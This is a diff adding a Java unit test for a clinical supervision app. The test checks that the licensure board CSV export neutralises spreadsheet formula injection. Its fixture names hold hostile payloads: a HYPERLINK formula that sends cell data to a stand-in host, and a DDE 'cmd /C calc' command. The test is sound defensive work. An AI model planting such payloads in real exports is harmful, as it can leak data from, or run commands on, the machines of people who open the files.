@@ -9,6 +9,7 @@ import static org.casenotes.supervision.core.licensure.LicensureClinic.SUP;
 import static org.casenotes.supervision.core.licensure.LicensureClinic.ZONE;
 
 import java.time.LocalDate;
+import java.util.List;
 import java.util.Locale;
 import java.util.Map;
 import java.util.Optional;
@@ -22,6 +23,8 @@ import org.casenotes.supervision.api.licensure.RuleOutcome;
 import org.casenotes.supervision.api.meeting.Attendance;
 import org.casenotes.supervision.api.meeting.MeetingFormat;
 import org.casenotes.supervision.api.meeting.Modality;
+import org.casenotes.supervision.core.csv.Csv;
+import org.casenotes.supervision.core.testing.StrictCsv;
 import org.casenotes.supervision.core.testing.TestDatabases;
 import org.junit.jupiter.api.Test;
 
@@ -92,6 +95,24 @@ class LicensureModuleTest {
                 "us-ca-bbs-amft v1,Person clin-2,Person sup-1,2026-03-01,2026-03-07,11.00,1.00,0.00,0.00,1.00,1.00,no",
                 "us-ca-bbs-amft v1,Person clin-2,Person sup-1,2026-03-08,2026-03-14,8.00,1.00,0.00,0.00,1.00,1.00,yes",
                 ""));
+    }
+
+    @Test
+    void theBoardSummaryNeutralisesFormulaCellsWithTheHoursLogsWriter() {
+        LicensureClinic clinic = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
+        clinic.packs.put("clin-2", "us-tx-lpc-associate");
+        clinic.names.put("clin-2", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
+        clinic.names.put("sup-1", "@SUM(1+1)*cmd|' /C calc'!A0, \"Dr\"");
+        clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-03-02T09:00", 60, Map.of(), "clin-2");
+
+        List<List<String>> rows = StrictCsv.parse(clinic.module.licensure().boardCsv(SUP, "clin-2", "sup-1",
+                LocalDate.of(2026, 3, 1), LocalDate.of(2026, 3, 31), ZONE));
+
+        assertThat(rows).hasSize(2);
+        assertThat(rows.get(1).subList(0, 3)).containsExactly("us-tx-lpc-associate v1",
+                "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(1+1)*cmd|' /C calc'!A0, \"Dr\"");
+        assertThat(rows).allSatisfy(row -> assertThat(row)
+                .noneMatch(cell -> !cell.isEmpty() && Csv.FORMULA_STARTS.indexOf(cell.charAt(0)) >= 0));
     }
 
     @Test
